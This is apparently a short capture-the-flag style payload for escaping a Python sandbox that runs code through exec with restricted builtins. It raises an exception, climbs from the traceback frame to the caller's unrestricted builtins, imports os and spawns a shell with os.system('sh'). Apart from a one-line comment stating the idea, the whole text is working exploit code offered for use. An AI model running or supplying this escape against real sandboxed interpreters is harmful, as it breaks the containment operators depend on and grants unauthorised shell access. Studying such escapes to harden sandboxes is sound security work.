# restriction: exec with restricted builtins, statements allowed; idea: raise an exception and climb from the traceback frame to the caller's builtins
try:1/0
except Exception as e:b=e.__traceback__.tb_frame.f_back.f_builtins
b['__import__']('os').system('sh')
